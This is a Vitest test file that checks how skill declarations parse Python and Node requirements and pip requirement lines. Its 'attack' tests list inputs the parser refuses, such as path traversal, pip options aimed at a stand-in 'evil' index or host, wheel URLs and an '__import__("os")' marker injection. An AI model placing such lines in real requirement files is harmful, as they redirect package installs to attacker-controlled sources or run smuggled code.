/**
 * The declaration's `requirements` key (shared/requirements.ts) and the requirement-line grammar:
 * what an author may write, and the pip options, URLs and paths that would let a skill choose
 * its own index or files.
 */
import { describe, expect, it } from 'vitest';
import { parseDeclaration } from '../../shared/declaration.js';
import { MAX_REQUIREMENT_LINES, parseRequirementLines, parseRequirements } from '../../shared/requirements.js';

describe('requirements in the declaration', () => {
  it('reads a file path, a list of lines, a package.json and the source-builds flag', () => {
    expect(parseRequirements({ python: 'scripts/requirements.txt', node: 'js/package.json', 'source-builds': true })).toEqual({
      ok: true,
      unknown: [],
      value: {
        python: { from: { file: 'scripts/requirements.txt' } },
        node: { packageJson: 'js/package.json', lockfile: 'js/package-lock.json' },
        sourceBuilds: true,
      },
    });
    expect(parseRequirements({ python: ['pypdf==6.1.0', 'Pillow >= 10 ; python_version >= "3.9"'] })).toMatchObject({
      ok: true,
      value: { python: { lines: ['pypdf==6.1.0', 'Pillow >= 10 ; python_version >= "3.9"'] }, sourceBuilds: false },
    });
  });

  it('names unknown keys and rejects malformed values, which costs the skill its scripts', () => {
    expect(parseRequirements({ python: 'r.txt', pyhton: 'x' })).toMatchObject({ ok: true, unknown: ['mcp-host.requirements.pyhton'] });
    expect(parseRequirements({ 'source-builds': 'yes', python: 'r.txt' })).toMatchObject({
      ok: false,
      why: expect.stringContaining('true or false'),
    });
    expect(parseRequirements({ node: 'js/index.js' })).toMatchObject({ ok: false, why: expect.stringContaining('package.json') });
    const declared = parseDeclaration({
      version: 1,
      run: [{ script: 's.py', interpreter: 'python3' }],
      requirements: { python: ['-e .'] },
    });
    expect(declared.declaration).toBeUndefined();
    expect(declared.problems[0]).toContain('pip option');
  });

  it('attack: a requirements path that leaves the skill, is absolute or hidden is refused', () => {
    for (const path of ['../other/requirements.txt', '/etc/requirements.txt', '.venv/requirements.txt', 'a//b.txt']) {
      expect(parseRequirements({ python: path }).ok, path).toBe(false);
    }
  });
});

describe('requirement lines', () => {
  it('accepts names, extras, specifiers, markers, hashes, comments and continuations', () => {
    const text = `# pinned\npypdf==6.1.0  # the PDF library\nrequests[socks]>=2.31,<3\n\nfoo==1.0 \\\n    --hash=sha256:${'a'.repeat(64)}\n`;
    const parsed = parseRequirementLines(text);
    expect(parsed).toEqual({
      ok: true,
      hashed: true,
      lines: ['pypdf==6.1.0', 'requests[socks]>=2.31,<3', `foo==1.0 --hash=sha256:${'a'.repeat(64)}`],
    });
  });

  it('attack: options that pick the index, other files or builds, URLs and local paths are refused', () => {
    for (const line of [
      '-e .',
      '-r other.txt',
      '-c constraints.txt',
      '--index-url http://evil/simple',
      '-i http://evil',
      '--extra-index-url http://evil',
      '--find-links /tmp',
      '--trusted-host evil',
      '--no-binary :all:',
      'pkg @ https://evil/pkg.whl',
      'https://evil/pkg.tar.gz',
      './local-pkg',
      '/abs/pkg.whl',
      '~/pkg',
      'git+https://github.com/x/y',
      'pkg==1.0 --install-option=--prefix=/x',
      'pkg; os_name == "posix" or __import__("os")/1',
    ]) {
      const parsed = parseRequirementLines(line);
      expect(parsed.ok, line).toBe(false);
    }
  });

  it('bounds the count and length of lines', () => {
    expect(parseRequirementLines(Array.from({ length: MAX_REQUIREMENT_LINES + 1 }, (_, i) => `p${i}`).join('\n'))).toMatchObject({
      ok: false,
      why: expect.stringContaining(`at most ${MAX_REQUIREMENT_LINES}`),
    });
    expect(parseRequirementLines(`pkg==${'1'.repeat(5000)}`)).toMatchObject({ ok: false, why: expect.stringContaining('longer than') });
    expect(parseRequirementLines('pkg\0==1')).toMatchObject({ ok: false });
  });
});
